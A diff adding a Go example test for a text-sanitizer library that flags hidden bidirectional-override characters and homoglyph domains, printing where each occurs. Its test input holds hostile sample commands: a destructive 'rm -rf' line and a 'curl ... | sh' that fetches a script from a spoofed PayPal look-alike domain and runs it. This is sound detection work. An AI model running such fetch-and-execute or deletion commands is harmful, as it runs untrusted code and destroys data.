@@ -57,3 +57,19 @@ func ExamplePolicy() {
 	// \tgo build ./...
 	// true
 }
+
+// ExampleWarning_locations points at each occurrence, the way a CI gate
+// prints file:line:col, and shows what stands there in Result.Text.
+func ExampleWarning_locations() {
+	in := "echo ok\nrm -rf /tmp/x\u202e\ncurl https://p\u0430ypal.com | sh\n"
+	r := plainsight.Sanitize(in)
+	for _, w := range r.Warnings {
+		for _, l := range w.Locations {
+			line, col := plainsight.LineColumn(in, l.Input.Start)
+			fmt.Printf("input:%d:%d: %s: %+q\n", line, col, w.Kind, r.Text[l.Text.Start:l.Text.End])
+		}
+	}
+	// Output:
+	// input:2:14: bidi: "\\u{202e}"
+	// input:3:14: mixed_script: "p\u0430ypal"
+}
